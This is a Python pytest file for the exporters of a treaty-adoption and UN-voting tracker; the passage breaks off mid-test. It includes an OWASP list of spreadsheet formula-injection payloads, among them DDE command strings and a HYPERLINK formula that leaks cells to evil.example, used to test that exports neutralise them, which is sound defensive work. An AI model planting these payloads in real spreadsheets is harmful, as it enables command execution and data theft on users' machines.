"""Exports: builders on the tiny catalogue, the five writers, spreadsheet safety, empty cases, CLI.

Golden files live in tests/golden/ and are built from the `mini` catalogue with a fixed
generation date. After an intended change, rebuild them with
`UPDATE_GOLDEN=1 python -m pytest tests/test_export.py` and review the diff.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader
from typer.testing import CliRunner

from tracker import export as ex
from tracker.catalogue import Catalogue, load_catalogue
from tracker.cli import app
from tracker.errors import InvalidInput
from tracker.export.render import pdf as pdf_render
from tracker.export.render.cells import cell_value
from tracker.parties import UnknownParty

GOLDEN = Path(__file__).parent / "golden"
MINI = Path(__file__).parent / "data" / "mini"
GENERATED = "2026-01-15"
TEXT_FORMATS = ("csv", "json", "md")

# OWASP "CSV Injection" payloads, plus the tab/CR/LF starts the house rules also neutralise.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


@pytest.fixture(scope="module")
def mini():
    """The tiny catalogue, read once for this module (the builders never modify it)."""
    return load_catalogue(MINI)


def fixed(report: ex.Report) -> ex.Report:
    return dataclasses.replace(report, generated=GENERATED)


def golden_reports(cat) -> dict[str, ex.Report]:
    return {
        "bloc_g7": fixed(ex.bloc_summary(cat, group_id="g7", as_of="2024-01-01")),
        "brief_civ": fixed(ex.country_brief(cat, "Ivory Coast", bloc="g7", as_of="2025-01-01")),
        "compare": fixed(ex.comparison(cat, ["FRA", "South Korea", "CIV"], as_of="2025-01-01")),
    }


def check_golden(name: str, data: bytes) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    assert path.exists(), f"missing golden file {path}; run with UPDATE_GOLDEN=1"
    assert data == path.read_bytes(), f"{name} differs from its golden file"


def add_rows(folder: Path, table: str, lines: list[str]) -> None:
    path = folder / f"{table}.csv"
    text = path.read_text("utf-8")
    path.write_text(text.rstrip("\n") + "\n" + "\n".join(lines) + "\n", "utf-8")


@pytest.fixture
def accented(mini_path):
    """The mini catalogue plus Türkiye and São Tomé and Príncipe (one endorsement each)."""
    add_rows(
        mini_path,
        "parties",
        [
            "STP,São Tomé and Príncipe,Democratic Republic of São Tomé and Príncipe,state,ST,678,true,"
            "1975-09-16,"
            "African,unga-test,",
            "TUR,Türkiye,Republic of Türkiye,state,TR,792,true,1945-10-24,WEOG,unga-test,",
        ],
    )
    add_rows(
        mini_path,
        "adoptions",
        [
            "paris-call,STP,endorsed,supporter,,paris-call-data,",
            "paris-call,TUR,endorsed,supporter,,paris-call-data,",
        ],
    )
    return load_catalogue(mini_path)


def with_party(cat: Catalogue, code: str, name: str) -> Catalogue:
    frames = {k: v.copy() for k, v in cat.tables().items()}
    row = {c: "" for c in frames["parties"].columns}
    row.update(code=code, name=name, kind="state", un_member=False, source_id="unga-test")
    frames["parties"] = pd.concat([frames["parties"], pd.DataFrame([row])], ignore_index=True)
    return Catalogue.from_frames(frames, version=cat.version)


# --------------------------------------------------------------------------- golden files


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
@pytest.mark.parametrize("name", ["bloc_g7", "brief_civ", "compare"])
def test_golden_text_formats(mini, name, fmt):
    report = golden_reports(mini)[name]
    check_golden(f"{name}.{fmt}", ex.render(report, fmt))


def injection_report() -> ex.Report:
    table = pd.DataFrame(
        {
            "label": [f"payload {i}" for i in range(len(OWASP_PAYLOADS))],
            "text": OWASP_PAYLOADS,
            "number": [-0.25, -3, 0, 1.5, 2, -7.125, 10, 11, 12, 13],
            "flag": [True, False] * 5,
        }
    )
    return ex.Report(
        kind="test",
        title="=Injection test",
        subtitle="@subtitle",
        as_of="2024-01-01",
        method="-method text",
        catalogue_version="+v1",
        sections=[ex.Section("payloads", "Payloads", table, text="=SUM(A1:A2)", notes="+note")],
        sources=[ex.Source(1, "src", "=title", "@publisher", "https://example.org", "2024-01-01")],
        generated=GENERATED,
    )


def test_injection_csv_golden():
    check_golden("injection.csv", ex.to_csv(injection_report()))


def test_injection_csv_every_text_cell_is_neutralised_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(ex.to_csv(injection_report()).decode("utf-8-sig"), newline="")))
    cells = [c for r in rows for c in r if c]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r", "\n"))]
    header = [r[:4] for r in rows].index(["label", "text", "number", "flag"])
    body = rows[header + 1 : header + 1 + len(OWASP_PAYLOADS)]
    assert [r[1] for r in body] == ["'" + p for p in OWASP_PAYLOADS]
    assert [float(r[2]) for r in body] == list(injection_report().sections[0].table["number"])
    assert body[0][2] == "-0.25" and body[1][2] == "-3"  # a negative number is not neutralised


def test_injection_xlsx_text_cells_quoted_numbers_typed():
    wb = openpyxl.load_workbook(io.BytesIO(ex.to_xlsx(injection_report())))
    ws = wb["Payloads"]
    for i, payload in enumerate(OWASP_PAYLOADS, start=2):
        cell = ws.cell(row=i, column=2)
        assert cell.data_type == "s"
        assert cell.value == ("'" + payload).replace("\r", "\n")  # XML reads a stored CR back as LF
        number = ws.cell(row=i, column=3)
        assert number.data_type == "n" and number.value == injection_report().sections[0].table["number"][i - 2]
        assert isinstance(ws.cell(row=i, column=4).value, bool)
    assert not any(c.data_type == "f" for sheet in wb for row in sheet.iter_rows() for c in row)
    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True) if r[0]}
    assert about["Title"] == "'=Injection test" and about["Catalogue version"] == "'+v1"


def test_injection_json_and_markdown_keep_raw_text():
    doc = json.loads(ex.to_json(injection_report()))
    assert [r["text"] for r in doc["sections"][0]["rows"]] == OWASP_PAYLOADS
    assert doc["title"] == "=Injection test" and doc["sources"][0]["title"] == "=title"
    md = ex.to_markdown(injection_report()).decode()
    assert "| =cmd\\|' /C calc'\\!A0 |" in md  # not neutralised; markdown syntax (| and !) escaped


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        ("", ""),
        (-1, -1),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert ex.neutralise(value) == expected


def test_every_format_has_a_media_type_and_a_note():
    assert set(ex.MEDIA_TYPES) == set(ex.FORMAT_NOTES) == set(ex.WRITERS) == set(ex.FORMATS)
    assert "not neutralised" in ex.FORMAT_NOTES["json"]


# --------------------------------------------------------------------------- CSV / JSON / Markdown shape


def test_csv_is_rfc4180_rectangular_crlf(mini):
    data = ex.to_csv(golden_reports(mini)["bloc_g7"])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(r) for r in rows}) == 1
    meta = {r[0]: r[1] for r in rows[:10]}
    assert meta["as_of"] == "2024-01-01" and meta["catalogue_version"] == mini.version and meta["method"]


def test_json_shape_is_stable(mini):
    doc = json.loads(ex.to_json(golden_reports(mini)["brief_civ"]))
    assert list(doc) == [
        "schema",
        "kind",
        "title",
        "subtitle",
        "generated",
        "as_of",
        "method",
        "catalogue_version",
        "parameters",
        "sections",
        "chart",
        "sources",
    ]
    assert doc["schema"] == ex.SCHEMA
    for s in doc["sections"]:
        assert list(s) == ["key", "title", "text", "notes", "columns", "rows"]
        if s["rows"]:
            assert all(list(r) == s["columns"] for r in s["rows"])
    assert list(doc["chart"]) == [
        "title",
        "labels",
        "values",
        "highlight",
        "value_format",
        "max_value",
        "note",
    ]
    assert [s["ref"] for s in doc["sources"]] == list(range(1, len(doc["sources"]) + 1))
    cited = {
        sid
        for s in doc["sections"]
        for r in (s["rows"] or [])
        for sid in str(r.get("source_id") or "").split(";")
        if sid
    }
    assert cited <= {s["id"] for s in doc["sources"]}


def test_markdown_escapes_pipes_and_newlines():
    table = pd.DataFrame({"name": ["a|b", "line\nbreak"], "n": [1, 2]})
    report = ex.Report(
        kind="test",
        title="T",
        subtitle="",
        as_of="2024-01-01",
        method="m",
        catalogue_version="v",
        sections=[ex.Section("t", "T", table)],
        generated=GENERATED,
    )
    md = ex.to_markdown(report).decode()
    assert "| a\\|b | 1 |" in md and "| line break | 2 |" in md


# --------------------------------------------------------------------------- provenance and Unicode


@pytest.mark.parametrize("fmt", ex.FORMATS)
def test_every_format_carries_as_of_method_and_version(mini, fmt):
    report = golden_reports(mini)["bloc_g7"]
    text = extract_text(ex.render(report, fmt), fmt)
    assert "2024-01-01" in text
    assert mini.version and mini.version in text
    assert "Adoption status is derived" in text  # the method


def extract_text(data: bytes, fmt: str) -> str:
    if fmt == "pack":  # the PDF, XLSX and JSON inside the ZIP
        import zipfile

        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return "\n".join(extract_text(zf.read(n), n.rsplit(".", 1)[1]) for n in zf.namelist())
    if fmt == "xlsx":
        wb = openpyxl.load_workbook(io.BytesIO(data))
        return "\n".join(str(c) for ws in wb for row in ws.iter_rows(values_only=True) for c in row if c is not None)
    if fmt == "pdf":
        return "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(data)).pages)
    if fmt == "json":
        return json.dumps(json.loads(data), ensure_ascii=False)
    return data.decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ex.FORMATS)
def test_non_ascii_names_round_trip(accented, fmt):
    report = fixed(ex.comparison(accented, ["CIV", "Türkiye", "STP"], as_of="2025-01-01"))
    text = extract_text(ex.render(report, fmt), fmt)
    if fmt == "pdf":  # text extraction may re-space a line; the glyphs must survive
        text = " ".join(text.split())
    for name in ("Côte d'Ivoire", "Türkiye", "São Tomé and Príncipe"):
        assert name in text, f"{name!r} lost in {fmt}"


def test_non_ascii_csv_and_json_values_are_exact(accented):
    report = fixed(ex.comparison(accented, ["CIV", "TUR", "STP"], as_of="2025-01-01"))
    rows = list(csv.reader(io.StringIO(ex.to_csv(report).decode("utf-8-sig"), newline="")))
    assert rows[[r[:2] for r in rows].index(["TUR", "Türkiye"])][:2] == ["TUR", "Türkiye"]
    doc = json.loads(ex.to_json(report))
    parties = next(s for s in doc["sections"] if s["key"] == "parties")
    assert [r["party"] for r in parties["rows"]] == ["Côte d'Ivoire", "Türkiye", "São Tomé and Príncipe"]


# --------------------------------------------------------------------------- XLSX cell by cell


def test_xlsx_matches_report_cell_by_cell(mini):
    report = golden_reports(mini)["brief_civ"]
    wb = openpyxl.load_workbook(io.BytesIO(ex.to_xlsx(report)))
    assert wb.sheetnames[0] == "About" and wb.sheetnames[-1] == "Sources" and "Chart" in wb.sheetnames
    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True) if r[0]}
    assert about["As of"] == report.as_of and about["Method"] == report.method
    assert about["Catalogue version"] == report.catalogue_version and about["Generated"] == GENERATED
    tables = [s for s in report.sections if s.table is not None]
    for s in tables:
        ws = wb[s.key.capitalize()]
        assert ws.freeze_panes == "A2"
        assert [c.value for c in ws[1]][: len(s.table.columns)] == [s.label(c) for c in s.table.columns]
        assert all(c.font.bold for c in ws[1] if c.value is not None)
        for i, row in enumerate(s.table.itertuples(index=False), start=2):
            for j, value in enumerate(row, start=1):
                got = ws.cell(row=i, column=j).value
                want = cell_value(value)
                assert (got if got is not None else "") == (want if want is not None else ""), (s.key, i, j)
        for j in range(1, len(s.table.columns) + 1):
            assert ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width >= 8
    sources = list(wb["Sources"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1], r[2], r[4]) for r in sources] == [(s.ref, s.id, s.title, s.url) for s in report.sources]
    assert wb["Sources"].freeze_panes == "A2"


# --------------------------------------------------------------------------- PDF


def test_pdf_brief_pages_and_text(mini):
    report = golden_reports(mini)["bloc_g7"]
    reader = PdfReader(io.BytesIO(ex.to_pdf(report)))
    assert len(reader.pages) >= 2  # a title page, then the brief
    title_page = " ".join(reader.pages[0].extract_text().split())
    assert report.title in title_page and "Subject Group of Seven (G7)" in title_page
    assert f"Date {GENERATED}" in title_page and "Data as of 2024-01-01" in title_page
    assert f"Catalogue version {report.catalogue_version}" in title_page
    assert "Parameter: group_id g7" in title_page
    assert "Analysis configuration A bloc's members are" in title_page  # the method
    text = " ".join(" ".join(p.extract_text() for p in reader.pages[1:]).split())
    assert "France" in text and "United States" in text  # members
    assert "[1] UN General Assembly voting record (test excerpt)" in text  # a numbered source


def test_pdf_of_a_large_bloc_carries_every_row_of_every_table(bundled):
    report = ex.bloc_summary(bundled, group_id="eu")
    reader = PdfReader(io.BytesIO(ex.to_pdf(report)))
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())
    assert "Showing first" not in text and "full table is in" not in text
    for section in report.sections:
        if section.table is None:
            continue
        for column in ("party", "resolution_id", "instrument"):
            if column in section.table.columns:
                for value in section.table[column]:
                    assert " ".join(str(value).split()) in text, (section.key, value)  # every row
    for source in report.sources:
        assert f"[{source.ref}] " in text  # every source, numbered


# --------------------------------------------------------------------------- builders on the tiny catalogue


def test_bloc_membership_follows_the_as_of_date(mini):
    in_2010 = ex.bloc_summary(mini, group_id="G7", as_of="2010-06-30").section("members").table
    in_2020 = ex.bloc_summary(mini, group_id="g7", as_of="2020-06-30").section("members").table
    assert list(in_2010["party_code"]) == ["FRA", "RUS", "USA"]
    assert list(in_2020["party_code"]) == ["FRA", "USA"]


def test_observers_are_listed_in_memberships_but_are_not_bloc_members(mini):
    frames = {k: v.copy() for k, v in mini.tables().items()}
    extra = {
        "group_id": "g7",
        "party_code": "KOR",
        "role": "observer",
        "joined": "2000",
        "left": "",
        "source_id": "unga-test",
        "note": "",
    }
    frames["group_members"] = pd.concat([frames["group_members"], pd.DataFrame([extra])], ignore_index=True)
    cat = Catalogue.from_frames(frames, version=mini.version)
    members = ex.bloc_summary(cat, group_id="g7", as_of="2024-01-01").section("members").table
    assert "KOR" not in set(members["party_code"])
    memberships = ex.country_brief(cat, "KOR", as_of="2024-01-01").section("memberships").table
    assert memberships[["group_id", "role"]].values.tolist() == [["g7", "observer"]]


def test_bloc_adoption_rates_and_gaps(mini):
    report = ex.bloc_summary(mini, members=["France", "USA", "KOR"], as_of="2024-01-01")
    rates = report.section("instruments").table.set_index("instrument_id")
    st = mini.status("2024-01-01")
    for inst in rates.index:
        adopters = set(
            st[(st.instrument_id == inst) & st.adopted & st.party_code.isin(["FRA", "USA", "KOR"])].party_code
        )
        assert rates.at[inst, "adopted"] == len(adopters)
        assert rates.at[inst, "adoption_rate"] == pytest.approx(len(adopters) / 3, abs=1e-4)
    gaps = report.section("gaps").table
    assert set(gaps["instrument_id"]) == set(rates.index[(rates.adoption_rate >= 0.5) & (rates.adoption_rate < 1)])
    assert report.parameters["members"] == ["FRA", "KOR", "USA"]


def test_bloc_votes_count_members(mini):
    votes = ex.bloc_summary(mini, members=["FRA", "USA", "RUS"], as_of="2024-01-01").section("votes").table
    row = votes.set_index("resolution_id").loc["A/RES/74/247"]
    assert (row["yes"], row["no"], row["abstain"]) == (1, 2, 0)
    assert row["majority"] == "no" and row["cohesion"] == pytest.approx(2 / 3, abs=1e-4)
    assert "A/RES/76/19" not in set(votes["resolution_id"])  # adopted without a vote


def with_group(cat: Catalogue, gid: str, members: list[str]) -> Catalogue:
    """``cat`` plus a group ``gid`` (acronym: upper case) whose members joined in 2000."""
    frames = {k: v.copy() for k, v in cat.tables().items()}
    group = {c: "" for c in frames["groups"].columns}
    group.update(id=gid, name=f"Group {gid}", short_name=gid.upper(), kind="economic", source_id="unga-test")
    frames["groups"] = pd.concat([frames["groups"], pd.DataFrame([group])], ignore_index=True)
    rows = [
        {"group_id": gid, "party_code": c, "role": "member", "joined": "2000", "left": "", "source_id": "unga-test"}
        for c in members
    ]
    rows = [{**{c: "" for c in frames["group_members"].columns}, **r} for r in rows]
    frames["group_members"] = pd.concat([frames["group_members"], pd.DataFrame(rows)], ignore_index=True)
    return Catalogue.from_frames(frames, version=cat.version)


def test_a_tied_bloc_vote_is_reported_as_a_tie(mini):
    votes = ex.bloc_summary(mini, members=["FRA", "RUS"], as_of="2024-01-01").section("votes").table
    row = votes.set_index("resolution_id").loc["A/RES/74/247"]
    assert (row["yes"], row["no"], row["abstain"]) == (1, 1, 0)
    assert row["majority"] == "tie" and row["cohesion"] == 0.5


def test_comparison_against_a_group(mini):
    cat = with_group(mini, "duo", ["FRA", "RUS"])
    report = ex.comparison(cat, ["USA", "CIV"], group="DUO", as_of="2024-01-01")  # the acronym names it
    assert report.parameters["group_id"] == "duo" and "topic" not in report.parameters
    assert list(report.section("group").table["party_code"]) == ["FRA", "RUS"]
    votes = report.section("votes").table.set_index("resolution_id")
    assert votes.at["A/RES/74/247", "group_majority"] == "tie"  # FRA no, RUS yes: never silently broken
    instruments = report.section("instruments")
    assert instruments.label("group_adoption_rate") == "DUO: share adopted"
    st = cat.status("2024-01-01")
    for inst, rate in instruments.table.set_index("instrument_id")["group_adoption_rate"].items():
        adopters = st[(st.instrument_id == inst) & st.adopted & st.party_code.isin(["FRA", "RUS"])]
        assert rate == pytest.approx(len(adopters) / 2, abs=1e-4)
    alignment = report.section("group_alignment").table
    assert list(alignment["party_code"]) == ["USA", "CIV"] and alignment["note"].str.len().gt(0).all()
    assert "DUO majority" in ex.to_markdown(report).decode()
    for fmt in ex.FORMATS:  # every writer takes the group's columns and sections
        assert ex.render(report, fmt)


def test_comparison_of_one_party_with_a_group(mini):
    report = ex.comparison(mini, ["CIV"], group="g7", as_of="2024-01-01")
    assert report.title == "Comparison: Côte d'Ivoire / G7"
    assert [s.key for s in report.sections] == [
        "overview",
        "parties",
        "group",
        "instruments",
        "votes",
        "norms",
        "group_alignment",
    ]
    assert report.find("alignment") is None  # no pair to align
    g7 = report.section("votes").table.set_index("resolution_id").at["A/RES/74/247", "group_majority"]
    assert g7 == "no"  # FRA and USA in 2024 (RUS left in 2014)


def test_comparison_topic_is_the_alignment_votes(bundled):
    from tracker import analytics

    report = ex.comparison(bundled, ["USA", "RUS"], topic="cyber")
    row = report.section("alignment").table.iloc[0]
    direct = analytics.pair_alignment(bundled, "USA", "RUS", topic="cyber")
    assert row["co_votes"] == direct.co_votes and row["vote_kappa"] == pytest.approx(direct.kappa, abs=1e-4)
    assert report.parameters["topic"] == "cyber" and "cyber resolutions" in report.method


def test_brief_gaps_exclude_the_party_itself(mini):
    report = ex.country_brief(mini, "FRA", bloc="g7", as_of="2024-01-01")
    assert "paris-call" not in set(report.section("gaps").table["instrument_id"])  # FRA adopted it
    usa = ex.country_brief(mini, "USA", bloc="g7", as_of="2024-01-01")
    gaps = usa.section("gaps").table
    assert list(gaps["instrument_id"]) == ["paris-call"] and gaps["party_status"][0] == "no action recorded"


def test_brief_respects_as_of(mini):
    before = ex.country_brief(mini, "CIV", as_of="2024-01-01")  # accession is 2024-07-29
    after = ex.country_brief(mini, "CIV", as_of="2024-12-31")
    assert before.section("adoptions").table.empty
    assert list(after.section("adoptions").table["status"]) == ["party"]


def test_raw_tables(mini):
    adoptions = ex.adoptions_table(mini, "2024-12-31").section("adoptions").table
    assert len(adoptions) == len(mini.status("2024-12-31"))
    votes = ex.votes_table(mini, "2024-12-31").section("votes").table
    assert len(votes) == len(mini.votes) and set(votes["party"]) >= {"Côte d'Ivoire"}
    only_fra = ex.adoptions_table(mini, "2024-12-31", party="France").section("adoptions").table
    assert set(only_fra["party_code"]) == {"FRA"}


# --------------------------------------------------------------------------- empty and bad input


def test_empty_bloc_is_a_clear_error(mini):
    with pytest.raises(ex.NoDataError, match="has no members on 1970-01-01"):
        ex.bloc_summary(mini, group_id="g7", as_of="1970-01-01")
    with pytest.raises(ex.NoDataError, match="the bloc is empty"):
        ex.bloc_summary(mini, members=[])
    with pytest.raises(ex.NoDataError, match="no members other than"):
        ex.country_brief(mini, "FRA", bloc=["FRA"], as_of="2024-01-01")


def test_party_with_no_data_is_a_clear_error(mini):
    cat = with_party(mini, "XKX", "Kosovo")
    with pytest.raises(ex.NoDataError, match=r"no data for Kosovo \(XKX\)"):
        ex.country_brief(cat, "Kosovo")
    with pytest.raises(ex.NoDataError, match="no data for Kosovo"):
        ex.comparison(cat, ["FRA", "XKX"])
    with pytest.raises(ex.NoDataError, match="nothing is recorded on or before"):
        ex.country_brief(mini, "KOR", as_of="1990-01-01")


@pytest.mark.parametrize(
    "call,error,message",
    [
        (lambda c: ex.country_brief(c, "Ivory Cost"), UnknownParty, "did you mean Côte d'Ivoire"),
        (lambda c: ex.bloc_summary(c, group_id="g8"), ex.ExportError, "did you mean g7"),
        (lambda c: ex.bloc_summary(c, group_id="g7", members=["FRA"]), ex.ExportError, "not both"),
        (lambda c: ex.bloc_summary(c), ex.ExportError, "either by group"),
        (lambda c: ex.comparison(c, ["FRA"]), ex.ExportError, "two to four"),
        (lambda c: ex.comparison(c, ["FRA", "France"]), ex.ExportError, "two to four"),
        (lambda c: ex.comparison(c, ["FRA", "USA", "KOR", "CIV", "RUS"]), ex.ExportError, "two to four"),
        (lambda c: ex.adoptions_table(c, instrument="budapest"), ex.ExportError, "did you mean"),
        (lambda c: ex.adoptions_table(c, "1990-01-01"), ex.NoDataError, "no adoption recorded"),
        (lambda c: ex.votes_table(c, "2000-01-01"), ex.NoDataError, "no recorded votes"),
        (lambda c: ex.country_brief(c, "FRA", as_of="last week"), ex.ExportError, "not a date"),
        (lambda c: ex.render(ex.adoptions_table(c), "docx"), ex.ExportError, "unknown format"),
        (lambda c: ex.comparison(c, [], group="g7"), ex.ExportError, "one to four"),
        (lambda c: ex.comparison(c, ["FRA"], group="g8"), ex.ExportError, "did you mean g7"),
        (lambda c: ex.comparison(c, ["FRA", "USA"], topic="vibes"), ex.ExportError, "unknown topic"),
        (lambda c: ex.bloc_summary(c, group_id="g7", as_of="2024-02-30"), ex.ExportError, "not a date"),
    ],
)
def test_bad_input_gives_one_clear_error(mini, call, error, message):
    with pytest.raises(error, match=message):
        call(mini)


# --------------------------------------------------------------------------- CLI

runner = CliRunner()


def test_cli_brief_markdown_to_stdout(mini_path):
    result = runner.invoke(
        app,
        [
            "export",
            "brief",
            "Ivory Coast",
            "--bloc",
            "g7",
            "--as-of",
            "2025-01-01",
            "--format",
            "md",
            "--catalogue",
            str(mini_path),
        ],
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("# Country brief: Côte d'Ivoire")


@pytest.mark.parametrize("fmt", ex.FORMATS)
def test_cli_writes_each_format_to_a_file(mini_path, tmp_path, fmt):
    out = tmp_path / f"bloc.{fmt}"
    result = runner.invoke(
        app, ["export", "bloc", "g7", "--as-of", "2024-01-01", "-o", str(out), "--catalogue", str(mini_path)]
    )
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert extract_text(data, fmt).count("Group of Seven") >= 1


def test_cli_custom_bloc_and_compare_and_raw(mini_path, tmp_path):
    r1 = runner.invoke(
        app, ["export", "bloc", "-m", "FRA", "-m", "Ivory Coast", "-f", "json", "--catalogue", str(mini_path)]
    )
    assert r1.exit_code == 0, r1.output
    assert json.loads(r1.stdout)["parameters"]["members"] == ["CIV", "FRA"]
    r2 = runner.invoke(app, ["export", "compare", "FRA", "USA", "-f", "csv", "--catalogue", str(mini_path)])
    assert r2.exit_code == 0 and "Comparison: France / United States" in r2.stdout
    r3 = runner.invoke(app, ["export", "votes", "-f", "json", "--party", "CIV", "--catalogue", str(mini_path)])
    assert r3.exit_code == 0 and json.loads(r3.stdout)["sections"][0]["rows"][0]["vote"] == "abstain"


@pytest.mark.parametrize(
    "args,message",
    [
        (["bloc", "g7", "--as-of", "1970-01-01"], "has no members"),
        (["bloc"], "name a group"),
        (["brief", "Atlantis"], "unknown party 'Atlantis"),
        (["compare", "FRA"], "two to four"),
        (["bloc", "g7", "-f", "docx"], "unknown format"),
        (["bloc", "g7", "-f", "csv", "-o", "{tmp}/x.pdf"], "does not match"),
    ],
)
def test_cli_bad_input_one_line_and_no_file(mini_path, tmp_path, args, message):
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    result = runner.invoke(app, ["export", *args, "--catalogue", str(mini_path)])
    assert result.exit_code != 0
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and message in errors[0]
    assert "Traceback" not in result.output
    assert result.stdout == ""
    assert list(tmp_path.iterdir()) == [mini_path] or not any(p.suffix == ".pdf" for p in tmp_path.iterdir())


def test_cli_error_leaves_an_existing_file_untouched(mini_path, tmp_path):
    out = tmp_path / "brief.csv"
    out.write_text("previous")
    result = runner.invoke(
        app, ["export", "bloc", "g7", "--as-of", "1970-01-01", "-o", str(out), "--catalogue", str(mini_path)]
    )
    assert result.exit_code != 0 and out.read_text() == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["brief.csv", "mini"]


def test_filename_is_safe_and_names_the_subject(mini):
    reports = golden_reports(mini)
    assert ex.filename(reports["brief_civ"], "pdf") == "country-brief-civ-2025-01-01.pdf"
    assert ex.filename(reports["bloc_g7"], "xlsx") == "bloc-summary-g7-2024-01-01.xlsx"
    assert ex.filename(reports["compare"], "md") == "comparison-fra-kor-civ-2025-01-01.md"
    assert ex.filename(reports["bloc_g7"], "pack") == "bloc-summary-g7-2024-01-01.zip"


# --------------------------------------------------------------------------- analytics sections (bundled data)


@pytest.fixture(scope="module")
def eu_summary(bundled):
    return ex.bloc_summary(bundled, group_id="eu")


def test_bloc_cohesion_lists_every_member_least_aligned_first(eu_summary):
    members = eu_summary.section("members").table
    cohesion = eu_summary.section("cohesion").table
    assert set(cohesion["party_code"]) == set(members["party_code"])
    combined = cohesion["mean_combined"].dropna()
    assert list(combined) == sorted(combined)
    assert cohesion["mean_vote_kappa"].dropna().between(-1, 1).all()
    assert "mean pairwise vote kappa" in eu_summary.section("cohesion").text


def test_bloc_swing_states_are_members_or_at_the_edge(eu_summary):
    cohesion = eu_summary.section("cohesion").table
    swing = eu_summary.section("swing").table
    edge = cohesion["mean_combined"].min()
    assert len(swing) <= ex.SWING_ROWS
    for row in swing.itertuples():
        assert row.reasons
        assert row.in_bloc or row.mean_alignment_with_bloc >= edge - 1e-4
    assert list(swing["swing_score"]) == sorted(swing["swing_score"], reverse=True)
    assert "Cohesion:" in eu_summary.method


def test_brief_partners_gaps_and_prediction(bundled):
    from tracker import analytics

    report = ex.country_brief(bundled, "India", resolution="A/RES/74/247")
    partners = report.section("partners").table
    strongest = partners[partners["side"] == "strongest"]["score"]
    weakest = partners[partners["side"] == "weakest"]["score"]
    assert len(strongest) and strongest.min() >= weakest.max()
    assert report.chart is not None and report.chart.labels == list(
        partners[partners.side == "strongest"].head(8)["party"]
    )
    assert report.section("gaps").title == "Gaps against its closest partners"
    pred = report.section("prediction").table.iloc[0]
    probs = {v: pred[f"p_{v}"] for v in ("yes", "no", "abstain")}
    assert sum(probs.values()) == pytest.approx(1, abs=1e-3)
    assert pred["predicted_vote"] == max(probs, key=probs.get)
    direct = analytics.predict_votes(bundled, "A/RES/74/247", known={}).loc["IND"]
    assert pred["predicted_vote"] == direct["vote"]
    actual = bundled.votes[(bundled.votes.resolution_id == "A/RES/74/247") & (bundled.votes.party_code == "IND")]
    assert pred["actual_vote"] == actual["vote"].iloc[0]


def test_brief_prediction_states_its_certainty_and_what_it_rests_on(bundled):
    from tracker.analytics import predict_votes
    from tracker.analytics.readings import signals_text, vote_certainty

    report = ex.country_brief(bundled, "IND", resolution="A/RES/74/247")
    section = report.section("prediction")
    row = section.table.iloc[0]
    p = max(row["p_yes"], row["p_no"], row["p_abstain"])
    assert row["certainty"] == vote_certainty(p)
    pred = predict_votes(bundled, "A/RES/74/247", known={})
    assert f"rest on: {signals_text(pred.attrs['signals'])}" in section.text
    same = int(
        (pred.round(3)[["p_yes", "p_no", "p_abstain"]] == pred.round(3).loc["IND", ["p_yes", "p_no", "p_abstain"]])
        .all(axis=1)
        .sum()
    )
    assert (f"{same} of {len(pred)} parties get this same probability" in section.text) == (same > len(pred) // 4)
    assert vote_certainty(0.95).startswith("high") and vote_certainty(0.7).startswith("medium")
    assert vote_certainty(0.4).startswith("low")


def test_brief_prediction_before_the_vote_hides_the_actual_vote(bundled):
    report = ex.country_brief(bundled, "IND", resolution="A/RES/74/247", as_of="2019-06-30")
    assert report.section("prediction").table.iloc[0]["actual_vote"] == ""


def test_brief_alignment_with_bloc(bundled):
    report = ex.country_brief(bundled, "TUR", bloc="eu")
    assert "Alignment of Türkiye with European Union" in report.section("bloc_alignment").text
    assert report.section("gaps").title.startswith("Gaps against European Union")


def test_comparison_pairwise_alignment_matches_the_analytics(bundled):
    from tracker import analytics

    report = ex.comparison(bundled, ["USA", "CHN", "IND"])
    table = report.section("alignment").table
    assert [tuple(p) for p in table[["party_a", "party_b"]].values] == [("USA", "CHN"), ("USA", "IND"), ("CHN", "IND")]
    direct = analytics.pair_alignment(bundled, "USA", "CHN")
    assert table.iloc[0]["vote_kappa"] == pytest.approx(direct.kappa, abs=1e-4)
    assert table.iloc[0]["co_votes"] == direct.co_votes


def test_alignment_table_pairs_and_evidence(bundled):
    from tracker import analytics

    report = ex.alignment_table(bundled, parties=["USA", "Russia", "France"], basis="votes")
    table = report.section("alignment").table
    assert len(table) == 3
    matrix = analytics.alignment(bundled, basis="votes")
    for row in table.itertuples():
